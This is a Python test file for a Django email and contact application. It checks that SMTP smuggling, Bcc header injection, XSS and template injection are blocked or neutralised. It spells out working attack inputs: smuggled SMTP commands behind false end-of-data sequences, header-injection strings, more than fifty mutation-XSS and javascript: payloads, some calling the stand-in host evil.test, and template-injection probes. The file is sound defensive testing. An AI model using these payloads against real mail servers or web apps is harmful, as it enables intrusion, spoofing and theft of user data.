"""Hostile mail: what hides behind a line ending, in a header, in HTML that changes when it is read twice."""

from __future__ import annotations

import asyncio
import re
import socket
import threading
from collections.abc import Iterator
from datetime import UTC, datetime
from email import message_from_bytes
from html.parser import HTMLParser

import pytest
from django.db import connections
from django.test import Client

from ligne.channels.email.models import MailAccount, RawMail
from ligne.channels.email.rules import compose, markup
from ligne.channels.email.smtp import Listener
from ligne.contacts.rules import filling
from tests.world import Company

# -- SMTP ------------------------------------------------------------------------------------------------------------

ENDINGS = [
    b"\n.\n",
    b"\n.\r\n",
    b"\r\n.\n",
    b"\r.\r",
    b"\r.\r\n",
    b"\r\n.\r",
    b"\n.\r",
    b"\r\r\n.\r\r\n",
    b"\r\n\x00.\r\n",
]


@pytest.fixture
def port() -> Iterator[int]:
    """Our own listener, in a loop of its own."""
    loop, listener = asyncio.new_event_loop(), Listener("127.0.0.1", 0, workers=1)
    thread = threading.Thread(target=loop.run_forever, daemon=True)
    thread.start()
    asyncio.run_coroutine_threadsafe(listener.start(), loop).result(10)
    yield listener.port
    asyncio.run_coroutine_threadsafe(listener.stop(), loop).result(20)
    loop.call_soon_threadsafe(loop.stop)
    thread.join(10)
    connections.close_all()


def talk(port: int, *said: bytes) -> list[bytes]:
    """Say each thing, wait for the last line of its answer."""
    answers = []
    with socket.create_connection(("127.0.0.1", port), 30) as line, line.makefile("rb") as heard:
        for words in (b"", *said):
            line.sendall(words)
            answer = heard.readline()
            while answer[3:4] == b"-":
                answer = heard.readline()
            answers.append(answer)
    return answers


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("ending", ENDINGS)
def test_no_second_mail_hides_behind_a_false_end(port: int, bleuet: Company, ending: bytes) -> None:
    """What another server takes for the inside of a mail must not be the next one for us."""
    MailAccount.objects.create(principal=bleuet.principal, address="service@bleuet.test")
    smuggled = (
        b"MAIL FROM:<patron@bleuet.test>\r\nRCPT TO:<service@bleuet.test>\r\nDATA\r\n"
        b"From: patron@bleuet.test\r\nSubject: ordre\r\n\r\nVirez tout.\r\n.\r\n"
    )
    letter = b"From: a@exemple.test\r\nSubject: bonjour\r\n\r\nBonjour" + ending + smuggled
    answers = talk(
        port,
        b"EHLO a.test\r\n",
        b"MAIL FROM:<a@exemple.test>\r\n",
        b"RCPT TO:<service@bleuet.test>\r\n",
        b"DATA\r\n",
        letter,
        b"QUIT\r\n",
    )
    assert not [raw for raw in RawMail.objects.all() if raw.envelope_from == "patron@bleuet.test"], answers


# -- headers of what we send -------------------------------------------------------------------------------------------


def letter(**facts: object) -> compose.Letter:
    """An answer, with what an attacker chose."""
    usual: dict[str, object] = {
        "from_name": "Nadia", "from_address": "service@bleuet.test", "to": ("anne@exemple.test",), "cc": (),
        "subject": "Votre facture", "text": "Bonjour", "message_id": "m.1@bleuet.test",
        "date": datetime(2026, 11, 23, tzinfo=UTC), "reply_to": "service+t.1@bleuet.test",
    }  # fmt: skip
    return compose.Letter(**(usual | facts))  # type: ignore[arg-type]


LINES = ["a\r\nBcc: everybody@exemple.test", "a\nBcc: everybody@exemple.test", "a\rBcc: everybody@exemple.test",
         "a\x0bBcc: x@exemple.test", "a\u2028Bcc: x@exemple.test", "a\x85Bcc: x@exemple.test"]  # fmt: skip


@pytest.mark.parametrize("words", LINES)
@pytest.mark.parametrize("field", ["subject", "from_name", "in_reply_to", "to", "cc", "references", "filename"])
def test_no_header_is_slipped_into_what_we_send(field: str, words: str) -> None:
    facts: dict[str, object] = {field: (words,) if field in {"to", "cc", "references"} else words}
    if field == "filename":
        facts = {"files": (compose.Part(words, "image/png", b"x"), compose.Part("a", f"text/{words}", b"x"))}
    try:
        sent = compose.compose(letter(**facts)).as_bytes()
    except ValueError:
        return  # refused: the sending fails with its reason
    assert message_from_bytes(sent)["Bcc"] is None
    head = sent.replace(b"\r\n", b"\n").partition(b"\n\n")[0]
    assert not re.search(rb"^Bcc", head, re.MULTILINE)


def test_no_line_ending_of_another_kind_leaves_us() -> None:
    sent = compose.compose(letter(text="Bonjour\n.\nMAIL FROM:<x@y.test>\r.\rfin\n.\r\n")).as_bytes()
    assert sent.count(b"\r") == sent.count(b"\r\n"), "no bare line ending leaves us"


# -- HTML ------------------------------------------------------------------------------------------------------------

HOSTILE_HTML = [
    "<script>x()</script>",
    "<img src=x onerror=x()>",
    "<svg onload=x()>",
    "<svg><script>x()</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=x()&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=x()>",
    "<noscript><p title='</noscript><img src=x onerror=x()>'>",
    "<textarea><img title='</textarea><img src onerror=x()>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=x()>'>",
    "<xmp><p title='</xmp><img src=x onerror=x()>'>",
    "<template><img src=x onerror=x()></template>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img id=x src onerror=x()>'>",
    "<a href='javascript:x()'>a</a>",
    "<a href='jAvAsCrIpT&colon;x()'>a</a>",
    "<a href='java\tscript:x()'>a</a>",
    "<a href=' &#14; javascript:x()'>a</a>",
    "<a href='data:text/html,<script>x()</script>'>a</a>",
    "<a href='vbscript:x()'>a</a>",
    "<a href='//evil.test'>a</a>",
    "<a href='/accounts/logout/'>a</a>",
    "<base href='//evil.test'>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<iframe src='//evil.test'></iframe>",
    "<iframe srcdoc='<script>x()</script>'></iframe>",
    "<object data='//evil.test'>",
    "<embed src='//evil.test'>",
    "<link rel=stylesheet href='//evil.test'>",
    "<style>@import '//evil.test'</style>",
    "<p style='background:url(//evil.test)'>a</p>",
    "<form action='//evil.test'><input name=password></form>",
    "<button formaction='javascript:x()'>a</button>",
    "<input autofocus onfocus=x()>",
    "<details open ontoggle=x()>",
    "<video src onerror=x()>",
    "<audio src onerror=x()>",
    "<body onload=x()>",
    "<marquee onstart=x()>",
    "<img src='https://evil.test/pixel.gif'>",
    "<img srcset='https://evil.test/a 1x' src='cid:a'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<picture><source srcset='//evil.test'></picture>",
    "<td background='//evil.test'>",
    "<p><![CDATA[<img src=x onerror=x()>]]>",
    "<!--><img src=x onerror=x()>-->",
    "<!--[if IE]><script>x()</script><![endif]-->",
    "<div id=forms name=body class='lc-btn' data-lc-fill='x' hx-get='/accounts/logout/' hx-trigger=load>a</div>",
    "<a href='https://a.test' target=_blank ping='//evil.test'>a</a>",
    "<p/onclick=x()>",
    '<img src="a" \x00onerror=x()>',
    "<scr\x00ipt>x()</script>",
    "<<script>x()//<</script>",
    "<img src=`x`onerror=x()>",
]


class Found(HTMLParser):
    """Every tag and attribute as a browser reads them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


@pytest.mark.parametrize("html", HOSTILE_HTML)
def test_hostile_html_is_made_harmless_and_stays_so_when_read_again(html: str) -> None:
    once = markup.read(html, [])[0]
    for tag, attributes in Found(once).tags:
        assert tag in markup._TAGS, once
        for name, value in attributes.items():
            assert not name.startswith(("on", "hx-", "data-", "style", "form", "ping", "srcset", "target")), once
            if name in {"src", "href", "background", "action"}:
                assert re.match(r"(https?|mailto|tel):|cid:|data:image/(gif|png|jpeg|webp)", value or ""), once
            assert name != "src" or "evil.test" not in (value or ""), "nothing is fetched until asked for"
    assert markup.read(once, [])[0] == once, "a second reading finds nothing new"


@pytest.mark.django_db
def test_a_mail_is_shown_in_a_frame_that_runs_and_fetches_nothing(bleuet: Company) -> None:
    contact = bleuet.in_hand(html="<p>Bonjour</p>")
    client = Client()
    client.force_login(bleuet.advisor)
    message = contact.messages.get(kind="in")
    answer = client.get(f"/contacts/message/{message.pk}/html/")
    policy = answer["Content-Security-Policy"]
    assert "default-src 'none'" in policy
    assert "sandbox" in policy
    assert "allow-scripts" not in policy
    assert "img-src data:" in policy
    assert "no-store" in answer["Cache-Control"]
    page = client.get(f"/contacts/{contact.pk}/").content.decode()
    frame = re.search(r"<iframe[^>]*>", page)
    assert frame
    assert "sandbox" in frame[0]
    assert "allow-scripts" not in frame[0]


# -- templates of replies --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "words", ["{% load x %}", "{{ settings.SECRET_KEY }}", "{{ client.__class__ }}", "{{ 7*7 }}", "${7*7}"]
)
def test_a_reply_template_runs_nothing(words: str) -> None:
    assert filling.fill(words, {"client": "Anne"}) == words


@pytest.mark.django_db
def test_what_a_customer_wrote_is_not_read_as_a_template(bleuet: Company) -> None:
    contact = bleuet.in_hand(text="{{ client }} {% csrf_token %} {{ request.user.password }}", subject="{{ 7|add:7 }}")
    client = Client()
    client.force_login(bleuet.advisor)
    page = client.get(f"/contacts/{contact.pk}/").content.decode()
    assert "{{ request.user.password }}" in page
    assert "{{ 7|add:7 }}" in page
